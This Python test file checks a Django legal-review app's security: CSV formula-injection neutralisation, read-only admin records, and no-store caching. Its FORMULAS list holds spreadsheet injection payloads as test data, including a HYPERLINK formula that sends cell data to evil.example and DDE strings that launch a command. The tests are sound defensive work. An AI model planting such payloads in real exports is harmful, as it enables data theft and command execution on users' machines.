"""Issue 18 §5: the CSV export cannot carry a live spreadsheet formula, the admin cannot change a verdict
behind the audit trail, and pages and exports with client work are never kept by a cache."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse

from tests.workbench.factories import review_with_findings
from workbench.exports import report as exports
from workbench.models import AuditEvent, Decision, Finding, SignOff

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


@pytest.fixture
def review(people):
    return review_with_findings(people)


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_csv_cell_starts_a_formula(review, people, formula) -> None:
    finding = review.findings.order_by("ordinal").first()
    Finding.objects.filter(pk=finding.pk).update(claim_text=formula, rationale=formula, citation=formula)
    Decision.objects.create(
        finding=finding, action="accept", comment=formula, user=people["associate"], role="associate"
    )
    rows = list(csv.reader(io.StringIO(exports.export_csv(review, "en").decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], rows[1]
    # Neutralised, not lost: the text is still there behind the quote mark.
    assert f"'{formula}" in cells


def test_ordinary_cells_are_left_alone(review) -> None:
    rows = list(csv.DictReader(io.StringIO(exports.export_csv(review, "en").decode("utf-8-sig"))))
    assert rows[0]["id"] == "C1"
    assert rows[0]["source_url"] == "https://www.law.go.kr/법령/민법"
    assert not any(v.startswith("'") for row in rows for v in row.values())


# ---------------------------------------------------------------------------------------------- admin


@pytest.fixture
def staff(db, people):
    from django.contrib.auth import get_user_model

    user = get_user_model().objects.create_superuser(username="root", password="root-pass-1")
    # A member of the review's matter: the admin shows a matter's rows to its members only
    # (tests/security/test_admin.py), and what is tested here is that even they cannot change them.
    people["matter"].members.add(user)
    client = Client()
    client.force_login(user)
    return client


def test_a_staff_user_cannot_change_a_verdict_through_the_admin(review, staff) -> None:
    finding = review.findings.get(status="no_source")
    change = reverse("admin:workbench_finding_change", args=[finding.pk])
    page = staff.get(change)
    assert page.status_code == 200  # readable
    assert 'name="status"' not in page.content.decode()
    response = staff.post(change, {"status": "verified", "state": "approved", "rationale": "fine"})
    assert response.status_code == 403
    finding.refresh_from_db()
    assert finding.status == "no_source"
    assert (
        staff.post(reverse("admin:workbench_finding_delete", args=[finding.pk]), {"post": "yes"}).status_code
        == 403
    )
    assert staff.get(reverse("admin:workbench_finding_add")).status_code == 403


@pytest.mark.parametrize(
    ("model", "name"), [(Decision, "decision"), (SignOff, "signoff"), (AuditEvent, "auditevent")]
)
def test_decisions_sign_offs_and_the_audit_trail_are_read_only_in_the_admin(
    review, people, staff, model, name
) -> None:
    finding = review.findings.first()
    if model is Decision:
        row = Decision.objects.create(
            finding=finding, action="accept", user=people["associate"], role="associate"
        )
    elif model is SignOff:
        row = SignOff.objects.create(review=review, user=people["partner"])
    else:
        row = review.audit_events.first()
    assert staff.get(reverse(f"admin:workbench_{name}_change", args=[row.pk])).status_code == 200
    assert staff.post(reverse(f"admin:workbench_{name}_change", args=[row.pk]), {}).status_code == 403
    assert staff.get(reverse(f"admin:workbench_{name}_add")).status_code == 403
    assert (
        staff.post(reverse(f"admin:workbench_{name}_delete", args=[row.pk]), {"post": "yes"}).status_code
        == 403
    )
    assert model.objects.filter(pk=row.pk).exists()


# ------------------------------------------------------------------------------------ Cache-Control


@pytest.mark.parametrize("fmt", ["json", "csv", "pdf", "docx"])
def test_exports_are_never_stored_by_a_cache(review, client_for, fmt) -> None:
    response = client_for("associate").get(reverse("review_export", args=[review.pk, fmt]))
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]


def test_review_pages_are_never_stored_by_a_cache(review, client_for) -> None:
    client = client_for("associate")
    finding = review.findings.first()
    for url in (
        reverse("home"),
        reverse("review", args=[review.pk]),
        reverse("finding", args=[review.pk, finding.pk]),
        reverse("finding_search", args=[review.pk, finding.pk]) + "?collection=law&query=민법",
    ):
        response = client.get(url)
        assert "no-store" in response.get("Cache-Control", ""), url
